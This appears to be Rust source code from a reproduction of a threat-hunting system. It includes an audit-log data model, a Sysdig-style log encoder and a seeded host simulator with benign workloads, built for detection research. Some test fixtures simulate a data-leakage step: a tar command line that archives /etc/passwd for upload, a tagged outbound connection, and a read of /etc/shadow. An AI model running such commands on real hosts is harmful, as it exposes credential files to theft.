    /// A file, identified by its absolute path.
    File,
    /// A process, identified by pid + executable name.
    Process,
    /// A network connection, identified by its 4-tuple + protocol.
    Network,
}

impl EntityKind {
    /// Lowercase keyword used in raw logs and TBQL (`file`, `proc`, `ip`).
    pub fn keyword(self) -> &'static str {
        match self {
            EntityKind::File => "file",
            EntityKind::Process => "proc",
            EntityKind::Network => "ip",
        }
    }
}

impl fmt::Display for EntityKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.keyword())
    }
}

/// A process entity: the only kind that can act as an event *subject*.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProcessEntity {
    /// Entity id within the parsed log.
    pub id: EntityId,
    /// Kernel process id (never reused within one scenario).
    pub pid: u32,
    /// Executable path, e.g. `/bin/tar`. This is the default attribute
    /// (`exename`) TBQL filters against.
    pub exename: String,
    /// Full command line, if recorded.
    pub cmdline: String,
    /// Owning user name.
    pub owner: String,
    /// Process start time (ns since scenario start).
    pub start_time: u64,
}

/// A file entity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileEntity {
    /// Entity id within the parsed log.
    pub id: EntityId,
    /// Absolute path. This is the default attribute (`name`).
    pub name: String,
}

/// A network-connection entity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NetworkEntity {
    /// Entity id within the parsed log.
    pub id: EntityId,
    /// Source IP (dotted quad).
    pub src_ip: String,
    /// Source port.
    pub src_port: u16,
    /// Destination IP (dotted quad). This is the default attribute
    /// (`dstip`).
    pub dst_ip: String,
    /// Destination port.
    pub dst_port: u16,
    /// Transport protocol (`tcp` / `udp`).
    pub protocol: String,
}

/// A system entity of any kind.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Entity {
    /// A process.
    Process(ProcessEntity),
    /// A file.
    File(FileEntity),
    /// A network connection.
    Network(NetworkEntity),
}

impl Entity {
    /// The entity's id.
    pub fn id(&self) -> EntityId {
        match self {
            Entity::Process(p) => p.id,
            Entity::File(f) => f.id,
            Entity::Network(n) => n.id,
        }
    }

    /// The entity's kind.
    pub fn kind(&self) -> EntityKind {
        match self {
            Entity::Process(_) => EntityKind::Process,
            Entity::File(_) => EntityKind::File,
            Entity::Network(_) => EntityKind::Network,
        }
    }

    /// The paper's *default attribute* value for this entity: `exename`
    /// for processes, `name` for files, `dstip` for connections.
    pub fn default_attr(&self) -> &str {
        match self {
            Entity::Process(p) => &p.exename,
            Entity::File(f) => &f.name,
            Entity::Network(n) => &n.dst_ip,
        }
    }

    /// Looks up a named attribute as a display string.
    ///
    /// Returns `None` when the attribute does not exist for this entity
    /// kind — the semantic analyzer in `threatraptor-tbql` reports those as
    /// type errors before execution.
    pub fn attr(&self, name: &str) -> Option<String> {
        match (self, name) {
            (Entity::Process(p), "exename") => Some(p.exename.clone()),
            (Entity::Process(p), "pid") => Some(p.pid.to_string()),
            (Entity::Process(p), "cmdline") => Some(p.cmdline.clone()),
            (Entity::Process(p), "owner") => Some(p.owner.clone()),
            (Entity::File(f), "name") => Some(f.name.clone()),
            (Entity::Network(n), "srcip") => Some(n.src_ip.clone()),
            (Entity::Network(n), "srcport") => Some(n.src_port.to_string()),
            (Entity::Network(n), "dstip") => Some(n.dst_ip.clone()),
            (Entity::Network(n), "dstport") => Some(n.dst_port.to_string()),
            (Entity::Network(n), "protocol") => Some(n.protocol.clone()),
            _ => None,
        }
    }

    /// Returns the process entity, if this is one.
    pub fn as_process(&self) -> Option<&ProcessEntity> {
        match self {
            Entity::Process(p) => Some(p),
            _ => None,
        }
    }

    /// Returns the file entity, if this is one.
    pub fn as_file(&self) -> Option<&FileEntity> {
        match self {
            Entity::File(f) => Some(f),
            _ => None,
        }
    }

    /// Returns the network entity, if this is one.
    pub fn as_network(&self) -> Option<&NetworkEntity> {
        match self {
            Entity::Network(n) => Some(n),
            _ => None,
        }
    }
}

/// Attribute names that are valid for a given entity kind.
///
/// Used by TBQL semantic analysis to reject filters on attributes the
/// auditing layer does not record.
pub fn valid_attrs(kind: EntityKind) -> &'static [&'static str] {
    match kind {
        EntityKind::Process => &["exename", "pid", "cmdline", "owner"],
        EntityKind::File => &["name"],
        EntityKind::Network => &["srcip", "srcport", "dstip", "dstport", "protocol"],
    }
}

/// The default attribute name for a given entity kind (paper §II-D):
/// `name` for files, `exename` for processes, `dstip` for connections.
pub fn default_attr_name(kind: EntityKind) -> &'static str {
    match kind {
        EntityKind::Process => "exename",
        EntityKind::File => "name",
        EntityKind::Network => "dstip",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_process() -> Entity {
        Entity::Process(ProcessEntity {
            id: EntityId(1),
            pid: 42,
            exename: "/bin/tar".into(),
            cmdline: "/bin/tar cf /tmp/upload.tar /etc/passwd".into(),
            owner: "root".into(),
            start_time: 1_000,
        })
    }

    #[test]
    fn default_attr_per_kind() {
        assert_eq!(default_attr_name(EntityKind::File), "name");
        assert_eq!(default_attr_name(EntityKind::Process), "exename");
        assert_eq!(default_attr_name(EntityKind::Network), "dstip");
    }

    #[test]
    fn process_attrs() {
        let p = sample_process();
        assert_eq!(p.attr("exename").as_deref(), Some("/bin/tar"));
        assert_eq!(p.attr("pid").as_deref(), Some("42"));
        assert_eq!(p.attr("owner").as_deref(), Some("root"));
        assert_eq!(p.attr("name"), None, "files' attr is invalid on process");
        assert_eq!(p.default_attr(), "/bin/tar");
        assert_eq!(p.kind(), EntityKind::Process);
    }

    #[test]
    fn file_attrs() {
        let f = Entity::File(FileEntity {
            id: EntityId(2),
            name: "/etc/passwd".into(),
        });
        assert_eq!(f.attr("name").as_deref(), Some("/etc/passwd"));
        assert_eq!(f.attr("exename"), None);
        assert_eq!(f.default_attr(), "/etc/passwd");
    }

    #[test]
    fn network_attrs() {
        let n = Entity::Network(NetworkEntity {
            id: EntityId(3),
            src_ip: "10.0.0.5".into(),
            src_port: 50123,
            dst_ip: "192.168.29.128".into(),
            dst_port: 443,
            protocol: "tcp".into(),
        });
        assert_eq!(n.attr("dstip").as_deref(), Some("192.168.29.128"));
        assert_eq!(n.attr("srcport").as_deref(), Some("50123"));
        assert_eq!(n.default_attr(), "192.168.29.128");
        assert_eq!(n.kind(), EntityKind::Network);
    }

    #[test]
    fn valid_attr_lists_include_defaults() {
        for kind in [EntityKind::File, EntityKind::Process, EntityKind::Network] {
            assert!(valid_attrs(kind).contains(&default_attr_name(kind)));
        }
    }

    #[test]
    fn entity_id_display_and_index() {
        assert_eq!(EntityId(7).to_string(), "e7");
        assert_eq!(EntityId(7).index(), 7);
    }

    #[test]
    fn kind_keywords() {
        assert_eq!(EntityKind::File.keyword(), "file");
        assert_eq!(EntityKind::Process.keyword(), "proc");
        assert_eq!(EntityKind::Network.keyword(), "ip");
    }

    #[test]
    fn accessors() {
        let p = sample_process();
        assert!(p.as_process().is_some());
        assert!(p.as_file().is_none());
        assert!(p.as_network().is_none());
    }
}
