//! Sysdig-like raw audit log format.
//!
//! The simulator emits one text line per audit event, mimicking the shape
//! of Sysdig capture output: each line is self-describing (carries full
//! subject-process context, operation, object specification, byte counts),
//! so the parser can reconstruct entities and events without out-of-band
//! state — exactly what the paper's log-parsing component does with real
//! Sysdig output.
//!
//! Line layout (11 tab-separated fields):
//!
//! ```text
//! start  end  pid  exe  owner  pstart  cmdline  op  objspec  bytes  tag
//! ```
//!
//! `objspec` encodes the object entity:
//!
//! * file:    `F|<path>`
//! * process: `P|<pid>|<exe>|<owner>|<pstart>|<cmdline>`
//! * network: `N|<srcip>|<sport>|<dstip>|<dport>|<proto>`
//!
//! `tag` is `-` for benign events or `<case>:<step>` for ground-truth
//! attack labels (evaluation metadata; ignored by the query layers).

use crate::event::{AttackTag, Operation};
use std::fmt::Write as _;

/// Subject (or object) process context carried on every raw line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawProc {
    /// Kernel pid.
    pub pid: u32,
    /// Executable path.
    pub exe: String,
    /// Owning user.
    pub owner: String,
    /// Command line (no tabs or `|`).
    pub cmdline: String,
    /// Process start time (ns since scenario start).
    pub start_time: u64,
}

/// Object specification of a raw record.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RawObject {
    /// A file object.
    File {
        /// Absolute path.
        path: String,
    },
    /// A process object (fork/clone/kill/setuid target).
    Process(RawProc),
    /// A network-connection object.
    Network {
        /// Source IP.
        src_ip: String,
        /// Source port.
        src_port: u16,
        /// Destination IP.
        dst_ip: String,
        /// Destination port.
        dst_port: u16,
        /// Transport protocol.
        protocol: String,
    },
}

/// One raw audit record, as produced by the simulator before encoding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawRecord {
    /// Start timestamp (ns since scenario start).
    pub start: u64,
    /// End timestamp (ns since scenario start).
    pub end: u64,
    /// Subject process.
    pub subject: RawProc,
    /// Operation.
    pub op: Operation,
    /// Object.
    pub object: RawObject,
    /// Bytes transferred (0 when not applicable).
    pub bytes: u64,
    /// Ground-truth label.
    pub tag: Option<AttackTag>,
}

impl RawRecord {
    /// Encodes this record as one log line (no trailing newline).
    pub fn encode(&self) -> String {
        let mut line = String::with_capacity(128);
        let s = &self.subject;
        write!(
            line,
            "{}\t{}\t{}\t{}\t{}\t{}\t{}\t{}\t",
            self.start, self.end, s.pid, s.exe, s.owner, s.start_time, s.cmdline, self.op
        )
        .expect("write to String cannot fail");
        match &self.object {
            RawObject::File { path } => {
                write!(line, "F|{path}").unwrap();
            }
            RawObject::Process(p) => {
                write!(
                    line,
                    "P|{}|{}|{}|{}|{}",
                    p.pid, p.exe, p.owner, p.start_time, p.cmdline
                )
                .unwrap();
            }
            RawObject::Network {
                src_ip,
                src_port,
                dst_ip,
                dst_port,
                protocol,
            } => {
                write!(line, "N|{src_ip}|{src_port}|{dst_ip}|{dst_port}|{protocol}").unwrap();
            }
        }
        match &self.tag {
            Some(tag) => write!(line, "\t{}\t{}:{}", self.bytes, tag.case, tag.step).unwrap(),
            None => write!(line, "\t{}\t-", self.bytes).unwrap(),
        }
        line
    }
}

/// Encodes a slice of records into a newline-terminated log document.
pub fn encode_lines(records: &[RawRecord]) -> String {
    // Pre-size roughly: ~120 bytes per line avoids repeated reallocation.
    let mut out = String::with_capacity(records.len() * 120);
    for rec in records {
        out.push_str(&rec.encode());
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn subj() -> RawProc {
        RawProc {
            pid: 101,
            exe: "/bin/tar".into(),
            owner: "root".into(),
            cmdline: "/bin/tar cf /tmp/upload.tar /etc/passwd".into(),
            start_time: 500,
        }
    }

    #[test]
    fn encode_file_event() {
        let rec = RawRecord {
            start: 1000,
            end: 1010,
            subject: subj(),
            op: Operation::Read,
            object: RawObject::File {
                path: "/etc/passwd".into(),
            },
            bytes: 2048,
            tag: None,
        };
        let line = rec.encode();
        assert_eq!(
            line,
            "1000\t1010\t101\t/bin/tar\troot\t500\t/bin/tar cf /tmp/upload.tar /etc/passwd\tread\tF|/etc/passwd\t2048\t-"
        );
    }

    #[test]
    fn encode_network_event_with_tag() {
        let rec = RawRecord {
            start: 5,
            end: 6,
            subject: subj(),
            op: Operation::Connect,
            object: RawObject::Network {
                src_ip: "10.0.0.4".into(),
                src_port: 51000,
                dst_ip: "192.168.29.128".into(),
                dst_port: 443,
                protocol: "tcp".into(),
            },
            bytes: 0,
            tag: Some(AttackTag {
                case: "data_leakage".into(),
                step: 8,
            }),
        };
        let line = rec.encode();
        assert!(line.ends_with("\tN|10.0.0.4|51000|192.168.29.128|443|tcp\t0\tdata_leakage:8"));
    }

    #[test]
    fn encode_process_event() {
        let child = RawProc {
            pid: 102,
            exe: "/bin/bzip2".into(),
            owner: "root".into(),
            cmdline: "/bin/bzip2 /tmp/upload.tar".into(),
            start_time: 2000,
        };
        let rec = RawRecord {
            start: 2000,
            end: 2001,
            subject: subj(),
            op: Operation::Fork,
            object: RawObject::Process(child),
            bytes: 0,
            tag: None,
        };
        let line = rec.encode();
        assert!(line.contains("\tfork\tP|102|/bin/bzip2|root|2000|/bin/bzip2 /tmp/upload.tar\t"));
    }

    #[test]
    fn encode_lines_joins_with_newlines() {
        let rec = RawRecord {
            start: 1,
            end: 2,
            subject: subj(),
            op: Operation::Write,
            object: RawObject::File {
                path: "/tmp/x".into(),
            },
            bytes: 1,
            tag: None,
        };
        let doc = encode_lines(&[rec.clone(), rec]);
        assert_eq!(doc.lines().count(), 2);
        assert!(doc.ends_with('\n'));
    }
}
