//! # threatraptor-audit
//!
//! System auditing substrate for the ThreatRaptor reproduction.
//!
//! The original system (Gao et al., ICDE 2021) collects system audit logs
//! from a live host with Sysdig. This crate replaces that hardware/OS
//! dependency with a deterministic substitute that exercises the identical
//! downstream code paths:
//!
//! * a **data model** for system entities (files, processes, network
//!   connections) and system events `⟨subject, operation, object⟩`
//!   ([`entity`], [`event`]);
//! * a **Sysdig-like raw log format** and its parser ([`rawlog`],
//!   [`parser`]), so the storage layer consumes *parsed text logs* exactly
//!   as the paper's log-parsing component does — plus a chunked replay
//!   [`feed`] that turns a raw log into a stream of [`parser::LogChunk`]s
//!   for the streaming ingest layer;
//! * a **host simulator** ([`sim`]) with kernel-style pid/fd bookkeeping, a
//!   virtual clock, benign background workloads, and scripted multi-step
//!   attacks (including the paper's two demonstration attacks), each event
//!   carrying a ground-truth label used only by evaluation harnesses.
//!
//! The simulator is fully seeded: the same seed reproduces the same raw log
//! byte-for-byte, which the paper's live-host deployment cannot offer.

pub mod entity;
pub mod event;
pub mod feed;
pub mod parser;
pub mod rawlog;
pub mod sim;
pub mod stats;

pub use entity::{Entity, EntityId, EntityKind, FileEntity, NetworkEntity, ProcessEntity};
pub use event::{AttackTag, Event, EventId, EventType, Operation};
pub use feed::{ChunkBy, LogFeed};
pub use parser::{LogChunk, ParseError, ParsedLog, Parser};
pub use sim::scenario::{AttackKind, BenignMix, Scenario, ScenarioBuilder, ScenarioSpec};
