//! The simulated host: virtual clock, pid/port allocation, event emission.

use crate::event::{AttackTag, Operation};
use crate::rawlog::{RawObject, RawProc, RawRecord};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::HashMap;

/// Kernel process id within the simulation.
pub type Pid = u32;

/// A live network connection handle returned by [`Host::connect`] /
/// [`Host::accept`]; identifies the connection 5-tuple for subsequent
/// [`Host::send`] / [`Host::recv`] calls.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Conn {
    /// Source IP of the connection as recorded.
    pub src_ip: String,
    /// Source port.
    pub src_port: u16,
    /// Destination IP.
    pub dst_ip: String,
    /// Destination port.
    pub dst_port: u16,
    /// Transport protocol.
    pub protocol: String,
}

/// A deterministic simulated host.
///
/// All randomness flows through one seeded RNG, so a `(seed, script)` pair
/// reproduces the identical raw log. Syscall latencies and inter-event gaps
/// are jittered to avoid degenerate equal timestamps.
pub struct Host {
    clock_ns: u64,
    rng: StdRng,
    next_pid: Pid,
    next_port: u16,
    procs: HashMap<Pid, RawProc>,
    records: Vec<RawRecord>,
    tag: Option<AttackTag>,
    /// The host's own IP, used as source for outbound connections.
    pub local_ip: String,
}

impl Host {
    /// Boot a host with the given RNG seed. Pid 1 (`/sbin/init`) exists
    /// from the start and owns all top-level daemons.
    pub fn new(seed: u64) -> Self {
        let mut procs = HashMap::new();
        procs.insert(
            1,
            RawProc {
                pid: 1,
                exe: "/sbin/init".into(),
                owner: "root".into(),
                cmdline: "/sbin/init".into(),
                start_time: 0,
            },
        );
        Host {
            clock_ns: 1_000,
            rng: StdRng::seed_from_u64(seed),
            next_pid: 2,
            next_port: 40_000,
            procs,
            records: Vec::new(),
            tag: None,
            local_ip: "10.0.0.4".into(),
        }
    }

    /// Current virtual time (ns since boot).
    pub fn now(&self) -> u64 {
        self.clock_ns
    }

    /// Number of records emitted so far.
    pub fn record_count(&self) -> usize {
        self.records.len()
    }

    /// Consumes the host and returns the emitted records in time order.
    pub fn into_records(self) -> Vec<RawRecord> {
        self.records
    }

    /// Mutable access to the RNG, for workload generators.
    pub fn rng(&mut self) -> &mut StdRng {
        &mut self.rng
    }

    /// Sets the ground-truth tag applied to subsequently emitted events.
    pub fn set_tag(&mut self, case: &str, step: u32) {
        self.tag = Some(AttackTag {
            case: case.to_string(),
            step,
        });
    }

    /// Clears the ground-truth tag (subsequent events are benign).
    pub fn clear_tag(&mut self) {
        self.tag = None;
    }

    /// Advances the clock by roughly `ns`, with ±20% jitter.
    pub fn advance(&mut self, ns: u64) {
        let jitter = if ns >= 5 {
            self.rng.random_range(0..=ns / 5 * 2)
        } else {
            0
        };
        // Center the jitter around `ns`.
        self.clock_ns += ns.saturating_sub(ns / 5) + jitter;
    }

    fn syscall_window(&mut self) -> (u64, u64) {
        // Inter-syscall gap 1–40 µs, duration 0.5–20 µs.
        let gap = self.rng.random_range(1_000..40_000);
        self.clock_ns += gap;
        let start = self.clock_ns;
        let dur = self.rng.random_range(500..20_000);
        self.clock_ns += dur;
        (start, self.clock_ns)
    }

    fn subject(&self, pid: Pid) -> RawProc {
        self.procs
            .get(&pid)
            .unwrap_or_else(|| panic!("simulation bug: pid {pid} not alive"))
            .clone()
    }

    fn emit(&mut self, pid: Pid, op: Operation, object: RawObject, bytes: u64) {
        let (start, end) = self.syscall_window();
        let subject = self.subject(pid);
        self.records.push(RawRecord {
            start,
            end,
            subject,
            op,
            object,
            bytes,
            tag: self.tag.clone(),
        });
    }

    /// Forks a child from `parent` and execs `exe`; emits a `fork` event
    /// (subject = parent, object = child) followed by an `execute` event
    /// (subject = child, object = the executable file). Returns the child
    /// pid.
    pub fn spawn(&mut self, parent: Pid, exe: &str, cmdline: &str) -> Pid {
        let owner = self.subject(parent).owner;
        let pid = self.next_pid;
        self.next_pid += 1;
        let child = RawProc {
            pid,
            exe: exe.to_string(),
            owner,
            cmdline: cmdline.to_string(),
            start_time: self.clock_ns,
        };
        self.procs.insert(pid, child.clone());
        self.emit(parent, Operation::Fork, RawObject::Process(child), 0);
        self.emit(
            pid,
            Operation::Execute,
            RawObject::File {
                path: exe.to_string(),
            },
            0,
        );
        pid
    }

    /// Spawns a child as a different user (e.g. web-server workers).
    pub fn spawn_as(&mut self, parent: Pid, exe: &str, cmdline: &str, owner: &str) -> Pid {
        let pid = self.spawn(parent, exe, cmdline);
        if let Some(p) = self.procs.get_mut(&pid) {
            p.owner = owner.to_string();
        }
        pid
    }

    /// Terminates a process (removes it from the live table; no event is
    /// emitted — Sysdig exit events are not consumed by the paper).
    pub fn exit(&mut self, pid: Pid) {
        self.procs.remove(&pid);
    }

    /// Emits an `open` event for `path`.
    pub fn open(&mut self, pid: Pid, path: &str) {
        self.emit(pid, Operation::Open, file_obj(path), 0);
    }

    /// Emits a `close` event for `path`.
    pub fn close(&mut self, pid: Pid, path: &str) {
        self.emit(pid, Operation::Close, file_obj(path), 0);
    }

    /// Emits a single `read` of `bytes` from `path`.
    pub fn read(&mut self, pid: Pid, path: &str, bytes: u64) {
        self.emit(pid, Operation::Read, file_obj(path), bytes);
    }

    /// Emits a single `write` of `bytes` to `path`.
    pub fn write(&mut self, pid: Pid, path: &str, bytes: u64) {
        self.emit(pid, Operation::Write, file_obj(path), bytes);
    }

    /// Emits an open / chunked-read burst / close sequence — the bursty
    /// pattern Causality-Preserved Reduction is designed to merge.
    pub fn read_burst(&mut self, pid: Pid, path: &str, total: u64, chunk: u64) {
        self.open(pid, path);
        let mut remaining = total;
        while remaining > 0 {
            let n = remaining.min(chunk);
            self.read(pid, path, n);
            remaining -= n;
        }
        self.close(pid, path);
    }

    /// Emits an open / chunked-write burst / close sequence.
    pub fn write_burst(&mut self, pid: Pid, path: &str, total: u64, chunk: u64) {
        self.open(pid, path);
        let mut remaining = total;
        while remaining > 0 {
            let n = remaining.min(chunk);
            self.write(pid, path, n);
            remaining -= n;
        }
        self.close(pid, path);
    }

    /// Emits a `rename` (object = destination path).
    pub fn rename(&mut self, pid: Pid, _from: &str, to: &str) {
        self.emit(pid, Operation::Rename, file_obj(to), 0);
    }

    /// Emits an `unlink` for `path`.
    pub fn unlink(&mut self, pid: Pid, path: &str) {
        self.emit(pid, Operation::Unlink, file_obj(path), 0);
    }

    /// Emits a `chmod` for `path`.
    pub fn chmod(&mut self, pid: Pid, path: &str) {
        self.emit(pid, Operation::Chmod, file_obj(path), 0);
    }

    /// Emits a `chown` for `path`.
    pub fn chown(&mut self, pid: Pid, path: &str) {
        self.emit(pid, Operation::Chown, file_obj(path), 0);
    }

    /// Emits an `mmap` for `path`.
    pub fn mmap(&mut self, pid: Pid, path: &str) {
        self.emit(pid, Operation::Mmap, file_obj(path), 0);
    }

    /// Opens an outbound connection to `dst_ip:dst_port`; emits `connect`.
    pub fn connect(&mut self, pid: Pid, dst_ip: &str, dst_port: u16, protocol: &str) -> Conn {
        let src_port = self.alloc_port();
        let conn = Conn {
            src_ip: self.local_ip.clone(),
            src_port,
            dst_ip: dst_ip.to_string(),
            dst_port,
            protocol: protocol.to_string(),
        };
        self.emit(pid, Operation::Connect, net_obj(&conn), 0);
        conn
    }

    /// Accepts an inbound connection from `peer_ip` on `local_port`;
    /// emits `accept`. The connection's destination is the remote peer,
    /// matching Sysdig's fd direction for server sockets.
    pub fn accept(&mut self, pid: Pid, peer_ip: &str, local_port: u16) -> Conn {
        let peer_port = self.alloc_port();
        let conn = Conn {
            src_ip: self.local_ip.clone(),
            src_port: local_port,
            dst_ip: peer_ip.to_string(),
            dst_port: peer_port,
            protocol: "tcp".into(),
        };
        self.emit(pid, Operation::Accept, net_obj(&conn), 0);
        conn
    }

    /// Emits a `send` of `bytes` over `conn`.
    pub fn send(&mut self, pid: Pid, conn: &Conn, bytes: u64) {
        self.emit(pid, Operation::Send, net_obj(conn), bytes);
    }

    /// Emits a `recv` of `bytes` over `conn`.
    pub fn recv(&mut self, pid: Pid, conn: &Conn, bytes: u64) {
        self.emit(pid, Operation::Recv, net_obj(conn), bytes);
    }

    /// Emits a chunked `send` burst over `conn`.
    pub fn send_burst(&mut self, pid: Pid, conn: &Conn, total: u64, chunk: u64) {
        let mut remaining = total;
        while remaining > 0 {
            let n = remaining.min(chunk);
            self.send(pid, conn, n);
            remaining -= n;
        }
    }

    /// Emits a chunked `recv` burst over `conn`.
    pub fn recv_burst(&mut self, pid: Pid, conn: &Conn, total: u64, chunk: u64) {
        let mut remaining = total;
        while remaining > 0 {
            let n = remaining.min(chunk);
            self.recv(pid, conn, n);
            remaining -= n;
        }
    }

    fn alloc_port(&mut self) -> u16 {
        let p = self.next_port;
        self.next_port = if self.next_port >= 65_000 {
            40_000
        } else {
            self.next_port + 1
        };
        p
    }
}

fn file_obj(path: &str) -> RawObject {
    RawObject::File {
        path: path.to_string(),
    }
}

fn net_obj(conn: &Conn) -> RawObject {
    RawObject::Network {
        src_ip: conn.src_ip.clone(),
        src_port: conn.src_port,
        dst_ip: conn.dst_ip.clone(),
        dst_port: conn.dst_port,
        protocol: conn.protocol.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::Parser;
    use crate::rawlog::encode_lines;

    #[test]
    fn determinism_same_seed_same_log() {
        let run = |seed| {
            let mut h = Host::new(seed);
            let sh = h.spawn(1, "/bin/bash", "/bin/bash");
            h.read_burst(sh, "/etc/hosts", 10_000, 4096);
            let c = h.connect(sh, "1.2.3.4", 80, "tcp");
            h.send(sh, &c, 100);
            encode_lines(&h.into_records())
        };
        assert_eq!(run(7), run(7));
        assert_ne!(run(7), run(8));
    }

    #[test]
    fn spawn_emits_fork_then_execute() {
        let mut h = Host::new(1);
        let pid = h.spawn(1, "/bin/tar", "/bin/tar cf x");
        let recs = h.into_records();
        assert_eq!(recs.len(), 2);
        assert_eq!(recs[0].op, Operation::Fork);
        assert_eq!(recs[0].subject.pid, 1);
        match &recs[0].object {
            RawObject::Process(p) => assert_eq!(p.pid, pid),
            other => panic!("expected process object, got {other:?}"),
        }
        assert_eq!(recs[1].op, Operation::Execute);
        assert_eq!(recs[1].subject.pid, pid);
    }

    #[test]
    fn timestamps_strictly_increase() {
        let mut h = Host::new(3);
        let pid = h.spawn(1, "/bin/cat", "/bin/cat");
        for _ in 0..50 {
            h.read(pid, "/etc/passwd", 128);
        }
        let recs = h.into_records();
        for w in recs.windows(2) {
            assert!(w[0].end <= w[1].start, "events must not overlap in time");
        }
    }

    #[test]
    fn bursts_parse_back() {
        let mut h = Host::new(5);
        let pid = h.spawn(1, "/bin/tar", "/bin/tar");
        h.read_burst(pid, "/etc/passwd", 64 * 1024, 4096);
        h.write_burst(pid, "/tmp/upload.tar", 64 * 1024, 8192);
        let doc = encode_lines(&h.into_records());
        let log = Parser::new().parse_document(&doc).unwrap();
        // fork + execute + (open + 16 reads + close) + (open + 8 writes + close).
        assert_eq!(log.events.len(), 2 + 18 + 10);
        let reads = log
            .events
            .iter()
            .filter(|e| e.op == Operation::Read)
            .count();
        assert_eq!(reads, 16);
    }

    #[test]
    fn tags_apply_until_cleared() {
        let mut h = Host::new(9);
        let pid = h.spawn(1, "/bin/sh", "/bin/sh");
        h.set_tag("case_x", 1);
        h.read(pid, "/etc/shadow", 10);
        h.clear_tag();
        h.read(pid, "/etc/motd", 10);
        let recs = h.into_records();
        let tagged: Vec<_> = recs.iter().filter(|r| r.tag.is_some()).collect();
        assert_eq!(tagged.len(), 1);
        assert_eq!(tagged[0].tag.as_ref().unwrap().case, "case_x");
    }

    #[test]
    fn connect_and_accept_directions() {
        let mut h = Host::new(11);
        let cl = h.spawn(1, "/usr/bin/curl", "/usr/bin/curl");
        let conn = h.connect(cl, "192.168.29.128", 443, "tcp");
        assert_eq!(conn.dst_ip, "192.168.29.128");
        assert_eq!(conn.src_ip, "10.0.0.4");
        let srv = h.spawn(1, "/usr/sbin/apache2", "apache2");
        let inbound = h.accept(srv, "203.0.113.9", 80);
        assert_eq!(inbound.dst_ip, "203.0.113.9");
        assert_eq!(inbound.src_port, 80);
    }

    #[test]
    fn ephemeral_ports_wrap() {
        let mut h = Host::new(13);
        h.next_port = 64_999;
        let pid = h.spawn(1, "/usr/bin/curl", "curl");
        let c1 = h.connect(pid, "1.1.1.1", 80, "tcp");
        let c2 = h.connect(pid, "1.1.1.1", 80, "tcp");
        let c3 = h.connect(pid, "1.1.1.1", 80, "tcp");
        assert_eq!(c1.src_port, 64_999);
        assert_eq!(c2.src_port, 65_000);
        assert_eq!(c3.src_port, 40_000);
    }

    #[test]
    #[should_panic(expected = "not alive")]
    fn acting_as_dead_pid_panics() {
        let mut h = Host::new(1);
        let pid = h.spawn(1, "/bin/ls", "ls");
        h.exit(pid);
        h.read(pid, "/tmp/x", 1);
    }
}
