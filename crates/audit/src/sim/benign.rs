//! Benign background workloads.
//!
//! These emulate the "routine tasks" the paper's demo server keeps running
//! while attacks are performed (§III), so that malicious activity must be
//! hunted among realistic noise. Each generator drives the [`Host`] API
//! and derives all choices from the host RNG, keeping scenarios seeded.

use super::host::{Host, Pid};
use rand::seq::IndexedRandom;
use rand::Rng;

/// Static web content pool served by the web-server workload.
const DOC_ROOT: &[&str] = &[
    "/var/www/html/index.html",
    "/var/www/html/about.html",
    "/var/www/html/news.html",
    "/var/www/html/style.css",
    "/var/www/html/app.js",
    "/var/www/html/logo.png",
    "/var/www/html/favicon.ico",
];

/// Client IP pool for inbound traffic.
const CLIENT_IPS: &[&str] = &[
    "198.18.4.21",
    "198.18.7.90",
    "198.18.9.3",
    "198.18.12.44",
    "198.18.15.8",
    "198.18.20.63",
];

/// Source files for the build workload.
const SRC_FILES: &[&str] = &[
    "/home/dev/proj/src/main.c",
    "/home/dev/proj/src/util.c",
    "/home/dev/proj/src/net.c",
    "/home/dev/proj/src/parse.c",
    "/home/dev/proj/src/crypto.c",
    "/home/dev/proj/include/util.h",
    "/home/dev/proj/include/net.h",
];

/// System files touched by interactive shell sessions.
const SHELL_TARGETS: &[&str] = &[
    "/etc/hosts",
    "/etc/motd",
    "/var/log/syslog",
    "/home/dev/notes.txt",
    "/home/dev/.bashrc",
    "/proc/cpuinfo",
    "/proc/meminfo",
];

/// Apache web server handling `requests` inbound HTTP requests.
///
/// Each request: accept, recv request, read a static file (bursty), send
/// the response, append to the access log.
pub fn web_server(host: &mut Host, requests: usize) -> Pid {
    let httpd = host.spawn_as(
        1,
        "/usr/sbin/apache2",
        "/usr/sbin/apache2 -k start",
        "www-data",
    );
    for _ in 0..requests {
        let peer = *CLIENT_IPS.choose(host.rng()).expect("non-empty pool");
        let doc = *DOC_ROOT.choose(host.rng()).expect("non-empty pool");
        let conn = host.accept(httpd, peer, 80);
        let n = host_range(host, 200, 900);
        host.recv(httpd, &conn, n);
        let size = host_range(host, 2_000, 60_000);
        host.read_burst(httpd, doc, size, 8_192);
        host.send_burst(httpd, &conn, size, 16_384);
        let n = host_range(host, 80, 200);
        host.write(httpd, "/var/log/apache2/access.log", n);
        host.advance(200_000);
    }
    httpd
}

/// A `make`-driven C build compiling `files` translation units.
pub fn dev_build(host: &mut Host, files: usize) -> Pid {
    let make = host.spawn_as(1, "/usr/bin/make", "make -j2 all", "dev");
    host.read(make, "/home/dev/proj/Makefile", 1_800);
    for i in 0..files {
        let src = SRC_FILES[i % SRC_FILES.len()];
        let obj = format!("/home/dev/proj/build/obj{}.o", i % SRC_FILES.len());
        let gcc = host.spawn(make, "/usr/bin/gcc", &format!("gcc -O2 -c {src}"));
        let n = host_range(host, 4_000, 40_000);
        host.read_burst(gcc, src, n, 8_192);
        host.read(gcc, "/home/dev/proj/include/util.h", 900);
        let n = host_range(host, 3_000, 20_000);
        host.write_burst(gcc, &obj, n, 8_192);
        host.exit(gcc);
        host.advance(500_000);
    }
    let ld = host.spawn(make, "/usr/bin/ld", "ld -o app build/*.o");
    for i in 0..files.min(SRC_FILES.len()) {
